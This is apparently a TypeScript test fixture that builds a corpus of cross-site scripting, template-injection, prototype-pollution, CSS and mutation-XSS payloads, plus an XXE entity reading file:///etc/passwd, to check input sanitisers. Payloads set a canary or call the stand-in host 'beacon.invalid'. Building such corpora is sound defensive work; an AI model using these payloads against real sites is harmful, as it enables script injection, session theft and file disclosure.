/**
 * What people put into fields to make a page run it. Each sets the canary `pwned` or calls a beacon; none is longer than
 * the shortest field of a line allows, so that every one of them fits everywhere.
 */
export const beaconHost = 'beacon.invalid';
const beacon = `//${beaconHost}/x`;
const run = 'pwned=1';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src=${beacon}></script>`,
  `<script type=module>${run}</script>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<script>\u2028${run}</script>`,
  `<script\u0000>${run}</script>`,
  `<noscript><p title="</noscript><img src onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<base href=${beacon}>`,
  `<object data=${beacon}></object>`,
  `<embed src=${beacon}>`,
  `<applet code=${beacon}>`,
  `<link rel=stylesheet href=${beacon}>`,
  `<link rel=prefetch href=${beacon}>`,
  `<meta http-equiv=refresh content="0;${beacon}">`,
];

const handlers = [
  ['img', 'src=x onerror'],
  ['img', `src=${beacon} onload`],
  ['image', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onresize'],
  ['iframe', 'src=x onload'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['keygen', 'autofocus onfocus'],
  ['a', 'href=# onmouseover'],
  ['a', 'href=# onclick'],
  ['div', 'onpointerenter'],
  ['div', 'onmousemove'],
  ['div', 'tabindex=0 autofocus onfocus'],
  ['details', 'open ontoggle'],
  ['video', 'src=x onerror'],
  ['video', 'autoplay onloadstart'],
  ['audio', 'src=x onerror'],
  ['source', 'onerror'],
  ['track', 'default oncuechange'],
  ['marquee', 'onstart'],
  ['form', 'onformdata'],
  ['button', 'autofocus onfocus'],
  ['p', 'style=animation:a onanimationstart'],
  ['p', 'style=transition:1s ontransitionend'],
  ['x', 'contenteditable autofocus onfocus'],
  ['dialog', 'open onclose'],
  ['object', 'data=x onerror'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['style', 'onload'],
  ['portal', 'src=x onload'],
].flatMap(([tag = '', attributes = '']) => [
  `<${tag} ${attributes}=${run}>`,
  `"><${tag} ${attributes}="${run}">`,
  `<${tag}/${attributes.replaceAll(' ', '/')}=${run}//`,
]);

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
  `blob:${beacon}`,
  `file:///etc/passwd`,
  beacon,
  `https:${beacon}`,
  `/\\${beaconHost}`,
  `ftp:${beacon}`,
];

const links = [
  ...addresses.slice(0, 12).map((address) => `<a href="${address}">x</a>`),
  ...addresses.slice(0, 12).map((address) => `[x](${address})`),
  `![x](${beacon})`,
  `<iframe src="javascript:${run}">`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<form action=javascript:${run}><button>x`,
  `<button formaction=javascript:${run}>x`,
  `<img src=${beacon}>`,
  `<img srcset="${beacon} 1x">`,
  `<video poster=${beacon}>`,
];

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=${beacon} /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg><foreignObject><img src onerror=${run}>`,
  `<svg><style><img src onerror=${run}></style>`,
  `<svg><image href=${beacon}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x`,
  `<math><annotation-xml encoding="text/html"><img src onerror=${run}>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{${run}}`,
  `{@html "<img src onerror=${run}>"}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `[[${run}]]`,
  `__proto__[pwned]=1`,
  `{"__proto__":{"pwned":1}}`,
  `constructor.prototype.pwned=1`,
  `';${run};//`,
  `";${run};//`,
  `\`;${run};//`,
  `\\";${run};//`,
];

const styles = [
  `<style>@import "${beacon}";</style>`,
  `<style>*{background:url(${beacon})}</style>`,
  `<p style="background:url(${beacon})">`,
  `<p style="width:expression(${run})">`,
  `<p style="-moz-binding:url(${beacon})">`,
  `red;background:url(${beacon})`,
  `}*{background:url(${beacon})}`,
];

/** Harmless until a sanitiser, or the parser behind it, has put it together differently. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src onerror=${run}>">`,
  `<noembed><p title="</noembed><img src onerror=${run}>">`,
  `<xmp><p title="</xmp><img src onerror=${run}>">`,
  `<!--><img src onerror=${run}>-->`,
  `<![CDATA[><img src onerror=${run}>]]>`,
  `<a href="x\`><img src onerror=${run}>">`,
  `<img alt="\`><script>${run}</script>">`,
  `&lt;img src onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u202e<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
];

export const hostileAddresses: readonly string[] = addresses;

export const hostileTexts: readonly string[] = [
  ...[scripts, handlers, addresses, links].flat(),
  ...[foreign, templates, styles, mutations].flat(),
];

/** Lines of at most so many characters, each with as many payloads as fit. */
export function hostileLines(longest: number): string[] {
  const lines: string[] = [];
  for (const text of hostileTexts.map((each) => each.trim()).filter(({ length }) => length <= longest)) {
    const last = lines.at(-1);
    if (last !== undefined && last.length + text.length < longest) lines[lines.length - 1] = `${last} ${text}`;
    else lines.push(text);
  }
  return lines;
}
